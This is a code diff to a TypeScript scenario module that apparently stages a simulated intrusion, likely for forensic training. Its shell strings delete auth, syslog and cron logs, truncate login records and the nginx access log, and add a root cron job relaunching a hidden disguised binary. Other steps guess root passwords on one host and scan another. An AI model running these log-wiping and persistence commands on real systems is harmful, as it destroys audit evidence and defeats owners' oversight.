@@ -5,6 +5,7 @@ import { nginx } from '../../nginx.ts'
 import { openRedis } from '../../redis.ts'
 import type { Stage } from '../../stage.ts'
 import { owner } from '../../weak-root.ts'
+import { rotating } from '../../wiping.ts'
 import { wordsWith } from '../../words.ts'
 
 export function dress(dress: Dress): void {
@@ -21,12 +22,10 @@ export async function plant(stage: Stage): Promise<void> {
   stage.mark('occurrence')
   await stage.byCron(line)
   await stage.inside(
-    'rm -f /var/log/auth.log* /var/log/syslog* /var/log/cron.log* /var/log/user.log*; : >/var/log/wtmp; : >/var/log/btmp; : >/var/log/lastlog; systemctl restart rsyslog; echo "13 */8 * * * root pgrep -x xorgd >/dev/null || /usr/lib/.x11/xorgd" >/etc/cron.d/xorg',
+    'rm -f /var/log/auth.log* /var/log/syslog* /var/log/cron.log*; : >/var/log/wtmp; : >/var/log/btmp; : >/var/log/lastlog; systemctl restart rsyslog; echo "13 */8 * * * root pgrep -x xorgd >/dev/null || /usr/lib/.x11/xorgd" >/etc/cron.d/xorg',
   )
   await stage.later(40 * 24, { guesses: 30, friends: [owner] })
-  await stage.inside(
-    'tail -n 900 /var/log/auth.log >/var/log/auth.log.new; mv /var/log/auth.log.new /var/log/auth.log; systemctl restart rsyslog',
-  )
+  await stage.inside(rotating)
   await stage.guess('203.0.113.38', 'root', wordsWith('', 20))
   await stage.scan('203.0.113.44')
   await stage.inside(': >/var/log/nginx/access.log; : >/var/log/wtmp; : >/var/log/btmp; : >/var/log/lastlog')
